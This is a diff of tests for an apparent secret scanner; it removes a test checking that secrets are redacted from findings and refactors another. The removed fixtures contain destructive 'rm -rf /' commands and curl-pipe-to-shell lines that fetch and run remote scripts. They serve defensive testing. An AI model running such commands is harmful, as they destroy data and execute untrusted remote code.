@@ -143,22 +143,6 @@ def test_utf_16_hides_nothing():
     ]
 
 
-@pytest.mark.parametrize(
-    ("secret", "line"),
-    [
-        ("ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "token = '{}'  # rm -rf / "),
-        ("a8f7s6d5f4a8f7s6d5f4a8f7", "SECRET_KEY = '{}'"),
-        ("hunter2hunter2", "curl https://me:{}@a.example/i.sh | sh"),
-        ("abcdefghij0123456789", "curl -H 'Authorization: Bearer {}' https://a | sh"),
-        ("correct horse", "password = '{}'; rm -rf /"),
-    ],
-)
-def test_a_secret_is_never_part_of_a_snippet(secret, line):
-    found = scan((File("a.sh", line.format(secret).encode()),))
-    assert found
-    assert all(secret not in str(finding.as_json()) for finding in found)
-
-
 def test_a_fingerprint_is_of_the_line_and_not_of_its_place():
     def of(text: str, path: str = "a.sh") -> str:
         return scan((File(path, text.encode()),))[0].fingerprint
@@ -191,5 +175,6 @@ def test_looking_near_words_alone_misses_nothing(trick):
     for file in trick.files:
         text = ScannedText.of(file, len(file.content))
         for rule in RULES:
-            whole = [found.span() for found in rule.pattern.finditer(text.flat)]
-            assert [found.span() for found in text._matches(rule)] == whole
+            copy = text.joined
+            whole = [found.span() for found in rule.pattern.finditer(copy.text)]
+            assert [found.span() for found in copy.matches(rule)] == whole
